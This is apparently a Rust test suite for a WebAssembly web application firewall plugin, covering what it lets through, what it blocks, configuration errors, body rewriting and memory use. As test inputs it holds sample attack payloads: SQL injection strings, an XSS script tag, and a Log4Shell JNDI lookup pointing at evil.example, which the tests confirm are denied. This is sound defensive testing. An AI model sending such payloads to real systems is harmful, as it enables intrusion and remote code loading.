//! The compiled filter in the host of this project: what it lets pass, what it stops, what it says
//! about a broken configuration, and how much memory it takes.

use std::rc::Rc;
use std::sync::OnceLock;

use parapet::wasm_host::{
    Exchange, HostError, Incoming, LogLevel, ManualClock, Module, Outcome, Plugin, Reply, Settings,
};

/// The embedded rules, blocking.
const BASELINE: &str = r#"{"directives_map": {"default": ["Include @demo-conf",
    "Include @baseline/*.conf"]}, "default_directives": "default"}"#;

/// More memory than a VM with the embedded rules should ever need.
const ROOM: usize = 24 << 20;

/// Compiled once for all tests.
fn module() -> &'static Module {
    static MODULE: OnceLock<Module> = OnceLock::new();
    MODULE.get_or_init(|| Module::compile(&std::fs::read(wasm_tests::wasm()).unwrap()).unwrap())
}

fn settings(configuration: &str) -> Settings {
    let mut settings = Settings::new(configuration);
    settings.clock = Rc::new(ManualClock::at(1_700_000_000_000_000_000));
    settings
}

fn request(method: &str, path: &str, headers: &[(&str, &str)], body: &str) -> Exchange {
    let fixed = [
        (":authority", "shop.example.org"),
        (":method", method),
        (":path", path),
        (":scheme", "http"),
        (
            "user-agent",
            "Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/140.0",
        ),
        ("accept", "text/html"),
    ];
    let pair = |&(name, value): &(&str, &str)| (name.into(), value.into());
    let mut all: Vec<(Vec<u8>, Vec<u8>)> = fixed.iter().chain(headers).map(pair).collect();
    let mut chunks = Vec::new();
    if !body.is_empty() {
        all.push((
            b"content-length".to_vec(),
            body.len().to_string().into_bytes(),
        ));
        // Two chunks, so that something has to be held.
        let (front, back) = body.split_at(body.len() / 2);
        chunks = vec![front.into(), back.into()];
    }
    Exchange {
        request: Incoming {
            headers: all,
            chunks,
            ..Default::default()
        },
        protocol: b"HTTP/1.1".to_vec(),
        source: b"192.0.2.7:40000".to_vec(),
        destination: b"198.51.100.1:8080".to_vec(),
        ..Default::default()
    }
}

fn page() -> Incoming {
    Incoming {
        headers: vec![
            (b":status".to_vec(), b"200".to_vec()),
            (b"content-type".to_vec(), b"text/html".to_vec()),
        ],
        chunks: vec![b"<p>Hello".to_vec(), b" again</p>".to_vec()],
        ..Default::default()
    }
}

fn exchange(plugin: &mut Plugin, exchange: &Exchange) -> Outcome {
    let outcome = plugin.exchange(exchange, &mut |_| page()).unwrap();
    assert!(!outcome.length_broken);
    outcome
}

#[test]
fn what_is_harmless_passes_unchanged() {
    let mut plugin = Plugin::start(module(), settings(BASELINE)).unwrap();
    let form = [("content-type", "application/x-www-form-urlencoded")];
    let json = [("content-type", "application/json")];
    for asked in [
        request("GET", "/books?topic=mountain-walks&page=3", &[], ""),
        request(
            "POST",
            "/contact",
            &form,
            "name=Camille&message=Where+is+my+parcel%3F",
        ),
        request(
            "POST",
            "/api",
            &json,
            r#"{"name": "Camille", "copies": [1, 2]}"#,
        ),
    ] {
        let outcome = exchange(&mut plugin, &asked);
        let Reply::Upstream(response) = outcome.reply else {
            panic!("{:?}", outcome.reply)
        };
        assert_eq!(response.body, b"<p>Hello again</p>");
        let upstream = outcome.upstream.unwrap();
        assert_eq!(upstream.body, asked.request.chunks.concat());
        assert!(upstream.complete);
    }
}

#[test]
fn attacks_are_denied_before_anything_reaches_the_upstream() {
    let mut plugin = Plugin::start(module(), settings(BASELINE)).unwrap();
    let form = [("content-type", "application/x-www-form-urlencoded")];
    for asked in [
        request("GET", "/books?id=1%27%20or%20%271%27=%271", &[], ""),
        request(
            "POST",
            "/contact",
            &form,
            "m=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        ),
        request(
            "GET",
            "/",
            &[("x-api", "${jndi:ldap://evil.example/a}")],
            "",
        ),
    ] {
        let _ = plugin.take_log();
        let outcome = exchange(&mut plugin, &asked);
        let Reply::Local(reply) = &outcome.reply else {
            panic!("{:?}", outcome.reply)
        };
        assert_eq!(reply.status, 403);
        assert!(!reply.details.is_empty());
        assert_eq!(outcome.upstream, None, "the head was held");
        let log = plugin.take_log();
        let lines = log.iter().map(|line| String::from_utf8_lossy(&line.text));
        assert!(
            lines.into_iter().any(|line| line.contains("[id \"")),
            "{log:?}"
        );
    }
}

#[test]
fn an_upstream_that_answers_early_and_a_client_that_is_rejected_are_survived() {
    let mut plugin = Plugin::start(module(), settings(BASELINE)).unwrap();
    let mut early = request("POST", "/upload", &[("content-type", "text/plain")], "abc");
    early.answer_before_body = true;
    exchange(&mut plugin, &early);
    let mut rejected = request("GET", "/", &[], "");
    rejected.rejected_by_proxy = Some(400);
    assert_eq!(exchange(&mut plugin, &rejected).reply.status(), Some(400));
    assert!(plugin.is_alive());
}

#[test]
fn a_host_that_does_not_hold_heads_still_gets_a_verdict() {
    let mut settings = settings(BASELINE);
    settings.holds_headers = false;
    let mut plugin = Plugin::start(module(), settings).unwrap();
    let form = [("content-type", "application/x-www-form-urlencoded")];
    let attack = request("POST", "/", &form, "m=%3Cscript%3Ealert(1)%3C%2Fscript%3E");
    let outcome = exchange(&mut plugin, &attack);
    assert_eq!(outcome.reply.status(), Some(403), "{:?}", outcome.reply);
    assert!(
        outcome
            .upstream
            .is_none_or(|upstream| upstream.body.is_empty())
    );
}

#[test]
fn a_broken_configuration_is_refused_with_its_place() {
    let module = module();
    for (configuration, message) in [
        (r#"{"directive_map": {}}"#, "directives_map"),
        (
            r#"{"rules": ["SecRule ARGS \"@containz x\" \"id:1,deny\""]}"#,
            "@containz",
        ),
        (
            r#"{"rules": ["SecRule ARGS \"@rx (\" \"id:1,deny\""]}"#,
            "P0302",
        ),
        (
            r#"{"rules": ["SecAction \"id:1\"", "SecAction \"id:1\""]}"#,
            "P0402",
        ),
        ("{", "plugin configuration:1"),
    ] {
        let Err(error) = Plugin::start(module, settings(configuration)) else {
            panic!("{configuration} was accepted")
        };
        let HostError::Refused { callback, log } = &error else {
            panic!("{error}")
        };
        assert_eq!(*callback, "proxy_on_configure");
        assert!(
            log.iter().any(|line| line.contains(message)),
            "{configuration}: {log:?}"
        );
    }
}

#[test]
fn rules_change_what_passes() {
    let rules = r#"{"rules": ["SecRuleEngine On", "SecResponseBodyAccess On",
        "SecContentInjection On", "SecServerSignature Loom", "SecDisableBackendCompression On",
        "SecAction \"id:1,phase:3,pass,nolog,prepend:'<top>',append:'</top>'\""]}"#;
    let mut plugin = Plugin::start(module(), settings(rules)).unwrap();
    let asked = request("GET", "/", &[("accept-encoding", "gzip")], "");
    for (coding, trailers, body) in [
        (None, false, "<top><p>Hello again</p></top>"),
        (None, true, "<top><p>Hello again</p></top>"),
        (Some("gzip"), false, "<p>Hello again</p>"),
    ] {
        let mut page = page();
        let mut header = |name: &[u8], value: &[u8]| page.headers.push((name.into(), value.into()));
        header(b"content-length", b"18");
        if let Some(coding) = coding {
            header(b"content-encoding", coding.as_bytes());
        }
        if trailers {
            page.trailers = vec![(b"x-checked".to_vec(), b"1".to_vec())];
        }
        let outcome = plugin.exchange(&asked, &mut |_| page.clone()).unwrap();
        assert!(!outcome.length_broken);
        let Reply::Upstream(response) = outcome.reply else {
            panic!("{:?}", outcome.reply)
        };
        assert_eq!(String::from_utf8_lossy(&response.body), body);
        let server = (b"server".to_vec(), b"Loom".to_vec());
        assert!(response.headers.contains(&server));
        let upstream = outcome.upstream.unwrap();
        assert!(
            upstream
                .headers
                .iter()
                .all(|(name, _)| name != b"accept-encoding")
        );
    }
}

#[test]
fn hidden_bodies_are_read_and_go_on_as_they_came() {
    let rules = r#"{"rules": ["Include @demo-conf", "SecStreamInBodyInspection On",
        "SecRule ARGS \"@rx ' or\" \"id:1,phase:2,deny,status:403,log\"",
        "SecRule STREAM_INPUT_BODY \"@rsub s/secret/***/\" \"id:2,phase:2,pass,nolog\""]}"#;
    let mut plugin = Plugin::start(module(), settings(rules)).unwrap();
    let post = |coding: &str, charset: &str, body: &[u8]| {
        let content_type = format!("application/x-www-form-urlencoded; charset={charset}");
        let headers = [
            ("content-type", content_type.as_str()),
            ("content-encoding", coding),
        ];
        let mut asked = request("POST", "/", &headers, "");
        let length = (
            b"content-length".to_vec(),
            body.len().to_string().into_bytes(),
        );
        asked.request.headers.push(length);
        asked.request.chunks = body.chunks(3).map(<[u8]>::to_vec).collect();
        asked
    };
    // `id=1%27+or+1&note=hello+hello+hello`
    let brotli = "1b2200f84537d79296252d265b53f0201f9c075471809f4a130ff0c1f4f2774eef12";
    let brotli: Vec<u8> = (0..brotli.len())
        .step_by(2)
        .map(|at| u8::from_str_radix(&brotli[at..at + 2], 16).unwrap())
        .collect();
    let utf16: Vec<u8> = "a=1' or 1"
        .encode_utf16()
        .flat_map(u16::to_le_bytes)
        .collect();
    for (asked, status) in [
        (post("br", "utf-8", &brotli), Some(403)),
        (post("br", "utf-8", &brotli[..20]), Some(400)),
        (post("identity", "utf-16le", &utf16), Some(403)),
        (post("identity", "utf-8", b"a=1&b=secret"), None),
    ] {
        let outcome = exchange(&mut plugin, &asked);
        match (&outcome.reply, status) {
            (Reply::Local(reply), Some(status)) => assert_eq!(reply.status, status),
            (Reply::Upstream(_), None) => {
                assert_eq!(outcome.upstream.unwrap().body, b"a=1&b=***");
            }
            (reply, _) => panic!("{status:?}: {reply:?}"),
        }
    }
}

#[test]
fn memory_is_small_and_stays_flat() {
    let mut plugin = Plugin::start(module(), settings(BASELINE)).unwrap();
    let start = plugin.memory_size();
    let form = [("content-type", "application/x-www-form-urlencoded")];
    let body = format!("m={}", "word+and+word+".repeat(2_000));
    let mut after_first = 0;
    for round in 0..200 {
        let path = format!("/books?topic=walks{round}&page={round}");
        exchange(&mut plugin, &request("GET", &path, &[], ""));
        exchange(&mut plugin, &request("POST", "/contact", &form, &body));
        if round == 20 {
            after_first = plugin.memory_size();
        }
    }
    let end = plugin.memory_size();
    println!("linear memory: {start} bytes at the start, {after_first} warm, {end} at the end");
    assert!(end <= ROOM, "{end} bytes");
    assert_eq!(end, after_first, "memory grows with the number of requests");
}

#[test]
fn nothing_is_said_about_harmless_requests() {
    let mut plugin = Plugin::start(module(), settings(BASELINE)).unwrap();
    let _ = plugin.take_log();
    exchange(&mut plugin, &request("GET", "/books?topic=walks", &[], ""));
    let loud: Vec<_> = plugin
        .take_log()
        .into_iter()
        .filter(|line| line.level >= LogLevel::Warn)
        .collect();
    assert!(loud.is_empty(), "{loud:?}");
}
